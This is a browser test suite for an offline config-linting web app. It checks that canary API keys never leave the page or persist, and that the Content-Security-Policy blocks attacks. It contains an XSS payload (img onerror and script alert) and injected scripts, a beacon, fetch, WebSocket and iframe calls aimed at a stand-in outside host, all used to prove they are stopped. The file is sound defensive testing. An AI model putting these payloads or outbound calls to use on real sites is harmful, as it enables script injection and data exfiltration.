// Nothing leaves the page and nothing stays: secrets typed, pasted, dropped and shared everywhere, with every way out watched.
import assert from "node:assert/strict";
import { test } from "node:test";
import { open } from "./browser.mjs";
import { choose, editor, eventually, everything, example, paste, ready, tab, verdict } from "./page.mjs";
import { stored } from "./storage.mjs";

const secret = (name) => `sk-ant-api03-${`CANARY${name.toUpperCase()}`.repeat(6)}`;
const POLICY = {
  "default-src": "'none'",
  "script-src": "'self' 'wasm-unsafe-eval'",
  "style-src": "'self'",
  "img-src": "'self'",
  "connect-src": "'self'",
  "worker-src": "'self'",
  "manifest-src": "'self'",
  "base-uri": "'none'",
  "form-action": "'none'",
};
const directives = (policy) => Object.fromEntries(policy.split(";").map((part) => part.trim().split(/\s+(.*)/s).slice(0, 2)));

test("the policy stands in the page and in the header, and allows nothing inline", async (t) => {
  const { page, server } = await open(t);
  const meta = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
  assert.deepEqual(directives(meta), POLICY);
  const answer = await fetch(server.address);
  assert.deepEqual(directives(answer.headers.get("content-security-policy")), { ...POLICY, "frame-ancestors": "'none'" });
  for (const policy of [meta, answer.headers.get("content-security-policy")]) assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\*|https?:|data:|blob:/);
  assert.equal(answer.headers.get("referrer-policy"), "no-referrer");
  assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
  // The policy comes before anything that it has to rule.
  const html = await answer.text();
  assert.ok(html.indexOf("Content-Security-Policy") < html.search(/<script|<link|<style/));
  assert.doesNotMatch(html, /<style|<script(?![^>]*\bsrc=)|\sstyle=|\son\w+=|https?:\/\//);
  for (const file of ["sw.js", ...[...html.matchAll(/(?:src|href)="\.\/(assets\/[^"]+)"/g)].map(([, name]) => name)]) {
    const { headers } = await fetch(server.address + file);
    assert.ok(headers.get("content-security-policy"), file);
  }
});

test("secrets in every place: nothing but GETs of the own files, nothing stored", async (t) => {
  const { page, context, server, record } = await open(t);
  const urls = [];
  const bodies = [];
  context.on("request", (request) => {
    urls.push(request.url());
    if (request.postData()) bodies.push(request.postData());
  });
  const sockets = [];
  page.on("websocket", (socket) => sockets.push(socket.url()));
  await ready(page);
  await page.getByText("Works offline").waitFor();

  // Typed key by key, pasted, in every place of a config.
  await editor(page).focus();
  await page.keyboard.type(`{gateway:{mode:"local",auth:{mode:"token",token:"${secret("typed")}"`, { delay: 1 });
  await page.keyboard.press("Escape");
  await paste(page, `{
  // ${secret("comment")}
  gateway: { mode: "local", auth: { mode: "token", token: "${secret("value")}" } },
  env: { ANTHROPIC_API_KEY: "${secret("env")}" },
  "${secret("key")}": 1,
  models: { providers: { x: { baseUrl: "http://198.51.100.7/${secret("address")}", apiKey: "${secret("provider")}", models: [] } } },
  agents: { list: [{ id: "main", default: true, model: "anthropic/claude-opus-4-6" }] },
}
`);
  await eventually(async () => assert.match(await verdict(page), /refuses/));
  for (const release of ["2026.1.30", "2026.2.9", "latest", "auto"]) await choose(page, release);
  await tab(page, "upgrade");
  await page.getByTestId("upgrade-copy").click();
  await page.getByTestId("upgrade-apply").click();
  await page.getByTestId("review").locator(".cm-changedLine").first().waitFor();
  await page.getByTestId("review-cancel").click();
  await tab(page, "login");
  await page.locator("#login-paste").fill(`ANTHROPIC_API_KEY=${secret("variable")}`);
  await page.getByTestId("login-add").click();
  await page.getByTestId("login-variable").waitFor();
  await page.locator("#login-paste").fill(JSON.stringify({ version: 1, profiles: { a: { type: "api_key", provider: "anthropic", key: secret("store") } } }));
  await page.getByTestId("login-add").click();
  await page.getByTestId("login-store").waitFor();
  await tab(page, "cache");
  await page.getByTestId("cache-row").first().waitFor();
  await tab(page, "help");
  await page.getByTestId("help-search").fill(secret("search"));
  await page.keyboard.press("Enter");
  await page.getByTestId("help-missing").waitFor();
  await page.getByTestId("files-share").click();
  await page.getByTestId("share-link").waitFor();
  await page.getByTestId("share-copy").click();
  await Promise.all([page.waitForEvent("download"), page.getByTestId("share-download").click()]);
  await page.keyboard.press("Escape");
  await Promise.all([page.waitForEvent("download"), page.getByTestId("files-download").click()]);
  await page.locator(".bar-preferences select").nth(0).selectOption("ur");
  await eventually(async () => assert.equal(await page.evaluate(() => document.documentElement.dir), "rtl"));
  await page.locator(".bar-preferences select").nth(1).selectOption("dark");

  // What is in the lists shows no secret; the editor has its own root, and is the one place that shows the text.
  await page.locator(".bar-preferences select").nth(0).selectOption("en");
  await tab(page, "problems");
  const outside = await page.evaluate(() => document.documentElement.outerHTML);
  assert.ok(!outside.includes("CANARY"), /.{30}CANARY.{30}/s.exec(outside)?.[0]);

  const kept = await stored(page);
  assert.deepEqual(kept.local, { "openclaw-lint.language": "en", "openclaw-lint.theme": "dark" });
  assert.deepEqual([kept.session, kept.cookies, kept.databases], [{}, "", []]);
  assert.ok(!JSON.stringify(kept).includes("CANARY"));
  // The caches hold files of the build alone.
  const built = new Set(server.asked.map((line) => new URL(line.split(" ")[1], server.origin).href));
  for (const url of Object.values(kept.caches).flat()) assert.ok(built.has(url), url);

  assert.deepEqual([bodies, sockets], [[], []]);
  for (const line of [...urls, ...server.asked, page.url()]) assert.ok(!/CANARY|sk-ant/.test(decodeURIComponent(line)), line);
  for (const line of server.asked) assert.match(line, /^GET \/(?:$|[\w.-]+$|assets\/[\w.-]+$)/);
  assert.deepEqual(record(), { violations: [], errors: [], foreign: [] });

  // Closed and opened again, nothing of it is left.
  await page.close();
  const next = await context.newPage();
  await next.goto(server.address);
  await ready(next);
  assert.ok(!(await everything(next)).includes("CANARY"));
  await tab(next, "login");
  assert.equal(await next.getByTestId("login-given").count(), 0);
});

test("a config with markup in every place is text and nothing else", async (t) => {
  const { page } = await open(t);
  await ready(page);
  const evil = "<img src=x onerror=alert(1)><script>alert(1)</script>";
  await paste(page, JSON.stringify({ [evil]: evil, agents: { list: [{ id: evil, model: `${evil}/${evil}` }] }, gateway: { bind: evil }, meta: { lastTouchedVersion: evil } }, null, 2));
  for (const id of ["upgrade", "login", "cache", "problems"]) {
    await tab(page, id);
    await eventually(async () => assert.equal(await page.locator("#panel [aria-busy=true]").count(), 0));
  }
  await eventually(async () => assert.ok((await page.getByTestId("finding").count()) > 1));
  await eventually(async () => assert.match(await page.locator("#panel").innerText(), /<img src=x/));
  assert.equal(await page.evaluate(() => document.querySelectorAll("img[src=x], script:not([src])").length), 0);
});

const ATTACKS = {
  "an inline script": [() => {
    const script = document.createElement("script");
    script.textContent = "window.broken = true";
    document.body.append(script);
  }, /^script-src/],
  "a handler in markup": [() => document.body.insertAdjacentHTML("beforeend", '<img src="icon.svg" onload="window.broken = true">'), /^script-src/],
  "an inline style": [() => {
    const style = document.createElement("style");
    style.textContent = "html { outline: 7px solid }";
    document.body.append(style);
    window.broken = getComputedStyle(document.documentElement).outlineWidth === "7px";
  }, /^style-src/],
  "a style attribute": [() => document.body.insertAdjacentHTML("beforeend", '<p style="color: red">'), /^style-src/],
  // Later, as what a debugger evaluates is exempt while it does.
  "eval": [() => void setTimeout(() => (window.broken = (0, eval)("true"))), /^script-src/],
  "a foreign request": [() => fetch("http://198.51.100.7/").then(() => (window.broken = true), () => undefined), /^connect-src/],
  "a foreign image": [() => void (new Image().src = "http://198.51.100.7/a.png"), /^img-src/],
  "a beacon": [() => void navigator.sendBeacon("http://198.51.100.7/", "x"), /^connect-src/],
  "a socket": [() => {
    try {
      new WebSocket("ws://198.51.100.7/");
    } catch {
      // Some browsers throw.
    }
  }, /^connect-src/],
  "a frame": [() => {
    const frame = document.createElement("iframe");
    frame.src = "http://198.51.100.7/";
    document.body.append(frame);
  }, /^frame-src/],
};
for (const [name, [attack, directive]] of Object.entries(ATTACKS)) {
  test(`the browser stops ${name}, and the watch of these tests sees it`, async (t) => {
    const { page, proxy, server, record, expected } = await open(t);
    await ready(page);
    const before = server.asked.length;
    await page.evaluate(attack);
    await eventually(async () => assert.ok(record().violations.some((line) => directive.test(line)), JSON.stringify(record())));
    assert.notEqual(await page.evaluate(() => window.broken), true);
    assert.deepEqual(proxy.asked, []);
    assert.ok(server.asked.slice(before).every((line) => line.startsWith("GET ")));
    expected("violations", /./);
    for (const kind of ["errors", "foreign"]) if (record()[kind].length > 0) expected(kind, /198\.51\.100\.7|violates|Refused/);
  });
}

test("the service worker may not ask others either", async (t) => {
  const { page, context } = await open(t);
  await ready(page);
  await page.getByText("Works offline").waitFor();
  const [worker] = context.serviceWorkers();
  assert.ok(worker, "there is one");
  const answer = await worker.evaluate(() => fetch("http://198.51.100.7/").then(() => "answered", (error) => String(error)));
  assert.match(answer, /Failed to fetch|Refused/);
});
